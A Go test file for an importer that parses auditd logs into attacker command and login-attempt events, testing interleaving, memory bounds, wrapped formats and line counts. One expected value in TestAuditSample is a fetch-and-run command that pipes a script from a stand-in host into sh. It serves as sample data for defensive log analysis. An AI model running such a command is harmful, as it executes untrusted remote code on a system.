package importer

import (
	"encoding/hex"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
)

// audit makes lines of a log from "TYPE MILLISECONDS:SERIAL FIELDS".
func audit(records ...string) []byte {
	var b strings.Builder
	for _, r := range records {
		kind, rest, _ := strings.Cut(r, " ")
		at, fields, _ := strings.Cut(rest, " ")
		ms, serial, _ := strings.Cut(at, ":")
		var n int
		fmt.Sscan(ms, &n)
		fmt.Fprintf(&b, "node=web-1 type=%s msg=audit(%d.%03d:%s): %s\n", kind, 1777873745+n/1000, n%1000, serial, fields)
	}
	return []byte(b.String())
}

func TestAuditEvents(t *testing.T) {
	upper := func(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) }
	execve := func(at, rest string) string { return "SYSCALL " + at + " arch=c000003e syscall=59 success=yes " + rest }
	auth := func(at, kind, pid, op, res string) string {
		return kind + " " + at + " pid=" + pid + ` uid=0 ses=4294967295 msg='op=` + op + ` acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.7 terminal=ssh res=` + res + `'`
	}
	for name, c := range map[string]struct {
		records []string
		want    []string
	}{
		"one":                 {[]string{execve("0:1", "ses=3"), `EXECVE 0:1 argc=2 a0="ls" a1="-l"`, `CWD 0:1 cwd="/"`, `PROCTITLE 0:1 proctitle="x"`}, []string{"command - ls -l"}},
		"another order":       {[]string{`CWD 0:1 cwd="/"`, `EXECVE 0:1 a1="-l" a0="ls" argc=2`, execve("0:1", "ses=3"), `EOE 0:1 `}, []string{"command - ls -l"}},
		"only EXECVE":         {[]string{`EXECVE 0:1 argc=1 a0="ls"`}, []string{"command - ls"}},
		"no EOE":              {[]string{`EXECVE 0:1 argc=1 a0="a"`, `EXECVE 1000:2 argc=1 a0="b"`, `EXECVE 2500:3 argc=1 a0="c"`, "LOGIN 2600:4 ses=1"}, []string{"command - a", "command - b", "command - c"}},
		"later title":         {[]string{`PROCTITLE 0:1 proctitle="x"`, execve("0:1", ""), `EXECVE 0:1 argc=1 a0="ls"`}, []string{"command - ls"}},
		"same serial, later":  {[]string{`EXECVE 0:1 argc=1 a0="a"`, "EOE 0:1 ", `EXECVE 9000:1 argc=1 a0="b"`}, []string{"command - a", "command - b"}},
		"hexadecimal":         {[]string{"EXECVE 0:1 argc=3 a0=6C73 a1=" + upper("a b") + " a2=(null)"}, []string{"command - ls 'a b' ''"}},
		"small hexadecimal":   {[]string{"EXECVE 0:1 argc=2 a0=6c73 a1=6f64643"}, []string{"command - ls 6f64643"}},
		"long":                {[]string{`EXECVE 0:1 argc=3 a0="a" a1_len=8 a1[0]=` + upper("bc d"), "EXECVE 0:1 a1[1]=" + upper("e fg") + ` a2="h"`}, []string{"command - a 'bc de fg' h"}},
		"arguments missing":   {[]string{`EXECVE 0:1 argc=4 a0="a" a1="b" a3="d"`}, []string{"command - a b"}},
		"no first argument":   {[]string{`EXECVE 0:1 argc=2 a1="b"`}, nil},
		"no arguments":        {[]string{execve("0:1", ""), "EXECVE 0:1 argc=0"}, nil},
		"title":               {[]string{execve("0:1", ""), "PROCTITLE 0:1 proctitle=" + upper("sh\x00-c\x00a b\x00")}, []string{"command - sh -c 'a b'"}},
		"title of the caller": {[]string{"SYSCALL 0:1 arch=c000003e syscall=59 success=no", `PROCTITLE 0:1 proctitle="bash"`}, nil},
		"title of another":    {[]string{"SYSCALL 0:1 arch=c000003e syscall=2 success=yes", `PROCTITLE 0:1 proctitle="vim"`}, nil},
		"another machine":     {[]string{"SYSCALL 0:1 arch=c00000b7 syscall=221 success=yes", `PROCTITLE 0:1 proctitle="vim"`}, []string{"command - vim"}},
		"joined by session":   {[]string{`USER_START 0:1 ses=3 msg='op=PAM:session_open acct="a" exe="/usr/sbin/sshd" addr=203.0.113.7 res=success'`, execve("1:2", "ses=3"), `EXECVE 1:2 argc=1 a0="ls"`, execve("2:3", "ses=4"), `EXECVE 2:3 argc=1 a0="w"`}, []string{"command 203.0.113.7 ls", "command - w"}},
		"not joined":          {[]string{`USER_START 0:1 ses=3 msg='op=PAM:session_open acct="a" exe="/usr/sbin/sshd" addr=203.0.113.7 res=failed'`, execve("1:2", "ses=3"), `EXECVE 1:2 argc=1 a0="ls"`}, []string{"command - ls"}},
		"joined, begun anew":  {[]string{`USER_LOGIN 0:1 pid=1 ses=3 msg='op=login id=0 addr=203.0.113.7 res=success'`, "LOGIN 5:2 pid=9 old-ses=4294967295 ses=3 res=1", execve("6:3", "ses=3"), `EXECVE 6:3 argc=1 a0="ls"`}, []string{"auth_attempt 203.0.113.7 ", "command - ls"}},
		"told twice":          {[]string{auth("0:1", "USER_AUTH", "7", "PAM:authentication", "failed"), auth("1:2", "USER_AUTH", "7", "password", "failed"), auth("2:3", "USER_LOGIN", "7", "login", "failed")}, []string{"auth_attempt 203.0.113.7 root"}},
		"three attempts":      {[]string{auth("0:1", "USER_AUTH", "7", "password", "failed"), auth("1:2", "USER_AUTH", "7", "password", "failed"), auth("2:3", "USER_AUTH", "7", "password", "success"), auth("3:4", "USER_LOGIN", "7", "login", "success")}, []string{"auth_attempt 203.0.113.7 root", "auth_attempt 203.0.113.7 root", "auth_attempt 203.0.113.7 root"}},
		"only USER_LOGIN":     {[]string{auth("0:1", "USER_LOGIN", "7", "login", "failed"), auth("1:2", "USER_LOGIN", "8", "login", "failed")}, []string{"auth_attempt 203.0.113.7 root", "auth_attempt 203.0.113.7 root"}},
		"a pid used again":    {[]string{auth("0:1", "USER_AUTH", "7", "password", "failed"), auth("900000:2", "USER_AUTH", "7", "PAM:authentication", "failed")}, []string{"auth_attempt 203.0.113.7 root", "auth_attempt 203.0.113.7 root"}},
		"sudo without EXECVE": {[]string{"USER_CMD 0:1 pid=1 uid=0 msg='cwd=\"/\" cmd=" + upper("id -u") + " terminal=pts/0 res=success'"}, []string{"command - id -u"}},
		"sudo beside EXECVE":  {[]string{`EXECVE 0:1 argc=2 a0="sudo" a1="id"`, "USER_CMD 1:2 pid=1 uid=0 msg='cwd=\"/\" cmd=6964 terminal=pts/0 res=success'"}, []string{"command - sudo id"}},
		"an enriched value":   {[]string{"EXECVE 0:1 argc=1 a0=\"ls\"\x1da0=\"id\""}, []string{"command - id"}},
		"a quotation mark":    {[]string{`EXECVE 0:1 argc=2 a0="ls" a1="x`, `EXECVE 1:2 argc=1 a0="w"`}, []string{"command - w"}},
		"title after a fault": {[]string{execve("0:1", ""), `EXECVE 0:1 argc=2 a0="ls" a1="x`, `PROCTITLE 0:1 proctitle="ls"`}, []string{"command - ls"}},
		"a session as text":   {[]string{execve("0:1", "ses=x/../1"), `EXECVE 0:1 argc=1 a0="w"`}, []string{"command - w"}},
		"an address as text":  {[]string{`USER_AUTH 0:1 pid=1 msg='op=x acct="a" addr=localhost res=failed'`}, []string{"auth_attempt - a"}},
		"acct in hexadecimal": {[]string{"USER_AUTH 0:1 pid=1 msg='op=x acct=" + upper(`a" addr=198.51.100.1 '`) + " addr=203.0.113.7 res=failed'"}, []string{`auth_attempt 203.0.113.7 a" addr=198.51.100.1 '`}},
		"old result":          {[]string{`USER_AUTH 0:1 pid=1 msg='op=x acct="a" addr=203.0.113.7 result=Success'`}, []string{"auth_attempt 203.0.113.7 a"}},
	} {
		r := readBytes(t, audit(c.records...), "auditd")
		got, want := telling(r), slices.Clone(c.want)
		slices.Sort(got)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q; rejects %+v", name, got, want, r.Rejects)
		}
		comesBack(t, r.Events)
	}
}

// However the lines of two events alternate, they are the same two events.
func TestAuditInterleaves(t *testing.T) {
	one := strings.SplitAfter(strings.TrimSpace(string(audit("SYSCALL 0:1 ses=1 pid=7", `EXECVE 0:1 argc=1 a0="a"`, `CWD 0:1 cwd="/a"`, `PROCTITLE 0:1 proctitle="a"`))), "\n")
	two := strings.SplitAfter(string(audit("SYSCALL 0:2 ses=2 pid=8", `EXECVE 0:2 argc=1 a0="b"`, `CWD 0:2 cwd="/b"`, `PROCTITLE 0:2 proctitle="b"`)), "\n")[:4]
	one[3] += "\n"
	var want []string
	for mask := range 1 << 8 {
		var b strings.Builder
		i, j := 0, 0
		for bit := range 8 {
			if mask>>bit&1 == 0 && i < 4 || j == 4 {
				b.WriteString(one[i])
				i++
			} else {
				b.WriteString(two[j])
				j++
			}
		}
		r := readBytes(t, []byte(b.String()), "auditd")
		got := []string{}
		for i := range r.Events {
			got = append(got, string(r.Events[i].AppendJSON(nil)))
		}
		slices.Sort(got)
		if want == nil {
			want = got
		}
		if len(got) != 2 || !slices.Equal(got, want) {
			t.Fatalf("%s gives %q, want %q", b.String(), got, want)
		}
	}
}

// A flood of events that never end, and of arguments, takes bounded memory and loses none.
func TestAuditIsBounded(t *testing.T) {
	var records []string
	for i := range 5000 {
		records = append(records, fmt.Sprintf(`EXECVE 0:%d argc=1 a0="x%d"`, i, i))
	}
	r := readBytes(t, audit(records...), "auditd")
	if len(r.Events) != 5000 || r.Report.Lines != 5000 {
		t.Errorf("%d events of 5000, %d records", len(r.Events), r.Report.Lines)
	}
	p := newAuditParser(&source{}).(*auditParser)
	for line := range strings.Lines(string(audit(records...))) {
		to := parsed{arena: &arena{}}
		if err := p.parse([]byte(strings.TrimSpace(line)), &to); err != nil || len(p.open) > maxAuditEvents {
			t.Fatalf("%d events are open, %v", len(p.open), err)
		}
	}
	records = []string{"SYSCALL 0:1 ses=1"}
	for i := range 2000 {
		records = append(records, fmt.Sprintf("EXECVE 0:1 argc=20000 a%d=%s a%d[1]=27", 10*i, strings.Repeat("FF", 500), 10*i))
		for j := range 9 {
			records = append(records, fmt.Sprintf("EXECVE 0:1 a%d=%s", 10*i+j+1, strings.Repeat("27", 500)))
		}
	}
	r = readBytes(t, audit(records...), "auditd")
	if len(r.Events) != 1 || r.Events[0].Payload.Value("truncated") != true {
		t.Fatalf("%d events, rejects %+v", len(r.Events), r.Rejects)
	}
}

// The log of a host that nobody names is refused.
func TestAuditNeedsHost(t *testing.T) {
	content := []byte(strings.ReplaceAll(string(audit(`EXECVE 0:1 argc=1 a0="ls"`)), "node=web-1 ", ""))
	path := write(t, t.TempDir(), "audit.log.1", content)
	if r := readAll(t, path, Options{}); r.Err == nil || !strings.Contains(r.Err.Error(), `does not say its host: set host = "web-1"`) {
		t.Errorf("without a host: %v", r.Err)
	}
	r := mustRead(t, path, Options{Settings: Settings{Host: "web-1"}})
	named := readBytes(t, audit(`EXECVE 0:1 argc=1 a0="ls"`), Auto)
	if r.Format != "auditd" || len(r.Events) != 1 || r.Events[0].ContentID() != named.Events[0].ContentID() {
		t.Errorf("%s: %+v, want %+v", r.Format, r.Events, named.Events)
	}
}

// The addresses of sessions are known in the file after the one with the logins, whether or
// not that is imported too.
func TestAuditGoesOnInTheNextFile(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "audit.log.1", audit(`USER_START 0:1 ses=3 msg='op=o acct="a" addr=203.0.113.7 res=success'`))
	content := audit("SYSCALL 1:2 ses=3", `EXECVE 1:2 argc=1 a0="ls"`, `PROCTITLE 1:2 proctitle="ls"`)
	after := mustRead(t, write(t, dir, "audit.log", content), Options{})
	alone := mustRead(t, write(t, t.TempDir(), "audit.log", content), Options{})
	if len(after.Events) != 1 || after.Events[0].AttackerIP != "203.0.113.7" || after.Events[0].ContentID() != alone.Events[0].ContentID() {
		t.Errorf("%+v, alone %+v", after.Events, alone.Events)
	}
	if more, disputed := alone.Events[0].Learn(&after.Events[0]); !more || disputed || alone.Events[0].IdentityUUID != "" {
		t.Errorf("learned %t, disputed %t: %s", more, disputed, alone.Events[0].AppendJSON(nil))
	}
}

// The sample that others checked, if it is there.
func TestAuditSample(t *testing.T) {
	content, err := os.ReadFile("/work/shared/data/sources/auditd.log")
	if err != nil {
		t.Skip("no sample")
	}
	r := mustRead(t, Stdin, Options{Settings: Settings{Host: "h"}, Stdin: strings.NewReader(string(content))})
	want := []string{"command - sh -c 'curl -s http://192.0.2.9/a | sh'", "auth_attempt 203.0.113.7 root"}
	if got := telling(r); r.Format != "auditd" || !slices.Equal(got, want) {
		t.Errorf("%s: %q, want %q", r.Format, got, want)
	}
	if e := r.Events[0]; e.Kind != ttpcron.Command || e.SessionID != "h/3" {
		t.Errorf("%+v", e)
	}
}

// An event that is open at the end of a growing log waits, and comes when the log goes on,
// or when nobody has written for a day.
func TestAuditWaits(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.log")
	first := audit(`EXECVE 0:1 argc=1 a0="a"`, `PROCTITLE 0:1 proctitle="a"`, "SYSCALL 1000:2 ses=3", `EXECVE 1000:2 argc=1 a0="b"`)
	if err := os.WriteFile(path, first, 0o600); err != nil {
		t.Fatal(err)
	}
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	soon := func() time.Time { return info.ModTime().Add(time.Minute) }
	later := func() time.Time { return info.ModTime().Add(25 * time.Hour) }
	waiting := int64(len(audit("SYSCALL 1000:2 ses=3", `EXECVE 1000:2 argc=1 a0="b"`)))
	got, look, _ := importOf(t, path, Options{Now: soon})
	if want := []string{"command - a"}; !slices.Equal(telling(got), want) || got.Report.Waiting != waiting || look == nil {
		t.Fatalf("%q, %d bytes wait, want %d; look %v", telling(got), got.Report.Waiting, waiting, look)
	}
	positions := PositionList{*got.Position}
	if again, _, _ := importOf(t, path, Options{Now: soon, Positions: positions, Look: *look}); len(again.Events) != 0 {
		t.Errorf("read again: %q", telling(again))
	}
	idle, _, _ := importOf(t, path, Options{Now: later, Positions: positions, Look: *look})
	if want := []string{"command - b"}; !slices.Equal(telling(idle), want) || idle.Report.Waiting != 0 {
		t.Errorf("after a day: %q, %d bytes wait", telling(idle), idle.Report.Waiting)
	}
	if final, _, _ := importOf(t, path, Options{Now: soon, Positions: positions, Final: true}); !slices.Equal(telling(final), telling(idle)) {
		t.Errorf("with final: %q", telling(final))
	}
	if err := os.WriteFile(path, append(first, audit(`CWD 1000:2 cwd="/x"`, `PROCTITLE 1000:2 proctitle="b"`)...), 0o600); err != nil {
		t.Fatal(err)
	}
	grown, _, _ := importOf(t, path, Options{Now: soon, Positions: positions})
	if len(grown.Events) != 1 || grown.Events[0].ContentID() != idle.Events[0].ContentID() || grown.Report.Waiting != 0 {
		t.Fatalf("grown: %q", telling(grown))
	}
	if pwd, _ := grown.Events[0].Payload.Text("pwd"); pwd != "/x" {
		t.Errorf("the directory is %q", pwd)
	}
}

// The records are the same behind what carries them.
func TestAuditWrapped(t *testing.T) {
	content := strings.TrimSpace(string(audit("SYSCALL 0:1 ses=3", `EXECVE 0:1 argc=2 a0="sh" a1="-c"`, `PROCTITLE 0:1 proctitle="a"`)))
	want := readBytes(t, []byte(content+"\n"), Auto)
	for name, wrap := range map[string]func(line string) string{
		"syslog": func(l string) string { return "Nov 27 13:51:56 web-1 audispd: " + l },
		"ISO":    func(l string) string { return "2026-11-27T13:51:56.1+01:00 web-1 audisp-syslog[7]: " + l },
		"Docker": func(l string) string {
			return `{"log":` + quoted(l+"\n") + `,"stream":"stdout","time":"2026-05-04T05:00:01Z"}`
		},
	} {
		var b strings.Builder
		for line := range strings.Lines(content) {
			b.WriteString(wrap(strings.TrimSpace(line)) + "\n")
		}
		got := readBytes(t, []byte(b.String()), Auto)
		if got.Format != "auditd" || len(got.Events) != 1 || !slices.Equal(got.IDs(), want.IDs()) {
			t.Errorf("%s: %s, %q, rejects %+v", name, got.Format, telling(got), got.Rejects)
		}
	}
}

// Each line counts as one, also of events of several lines and of several events at once,
// and of those that are open at the end only the bytes count.
func TestAuditCountsLines(t *testing.T) {
	dir := t.TempDir()
	both := []string{
		"SYSCALL 0:1 ses=3", "SYSCALL 1:2 ses=3", `EXECVE 0:1 argc=1 a0="a"`, `EXECVE 1:2 argc=1 a0="b"`, `CWD 1:2 cwd="/"`, "PATH 1:2 item=0", `CWD 0:1 cwd="/"`,
		"BPRM_FCAPS 0:1 x=1", `PROCTITLE 1:2 proctitle="b"`,
	}
	rest := []string{`PROCTITLE 0:1 proctitle="a"`, "SYSCALL 2:3 syscall=2", "PATH 2:3 item=0", "EOE 2:3 ", "PATH 3:4 item=0", "EOE 3:4 ", "LOGIN 4:5 ses=1"}
	path := write(t, dir, "audit.log", audit(both...))
	soon := func() time.Time { return time.Now().Add(time.Hour) }
	first := mustRead(t, path, Options{Now: soon})
	if want := int64(len(audit(both...))); first.Report.Lines != 5 || first.Report.Ignored != 0 || first.Report.Waiting != want || len(first.Events) != 1 {
		t.Errorf("%+v, want 5 lines and %d bytes that wait", first.Report, want)
	}
	write(t, dir, "audit.log", audit(append(both, rest...)...))
	second := mustRead(t, path, Options{Now: soon, Positions: PositionList{*first.Position}})
	want := ttpcron.NameCounts{"SYSCALL": 1, "PATH": 2, "EOE": 2, "LOGIN": 1}
	if second.Report.Lines != 11 || second.Report.Ignored != 6 || second.Report.Waiting != 0 || len(second.Events) != 1 || !maps.Equal(second.Report.IgnoredTypes, want) {
		t.Errorf("%+v", second.Report)
	}
	if all := mustRead(t, path, Options{}); all.Report.Lines != len(both)+len(rest) {
		t.Errorf("all: %+v", all.Report)
	}
	// The first of several that are open may end first.
	waits := append([]string{"SYSCALL 0:0 ses=3", `EXECVE 0:0 argc=1 a0="x"`}, append(both, `PROCTITLE 0:0 proctitle="x"`)...)
	path = write(t, dir, "waits.log", audit(waits...))
	if r := mustRead(t, path, Options{Now: soon}); r.Report.Waiting != int64(len(audit(waits[2:]...))) {
		t.Errorf("%d bytes wait, want %d", r.Report.Waiting, len(audit(waits[2:]...)))
	}
}

// An event that ends because a line of another comes is kept, even if that line is wrong.
func TestAuditEndsWithAWrongLine(t *testing.T) {
	r := readBytes(t, audit(`EXECVE 0:1 argc=1 a0="a"`, `EXECVE 9000:2 argc=1 a0="b`, `USER_AUTH 20000:3 pid=1 msg='op=x acct="b`), "auditd")
	if got, want := telling(r), []string{"command - a"}; !slices.Equal(got, want) || len(r.Rejects) != 2 || r.Report.Lines != 3 {
		t.Errorf("%q, want %q; %+v", got, want, r.Report)
	}
}
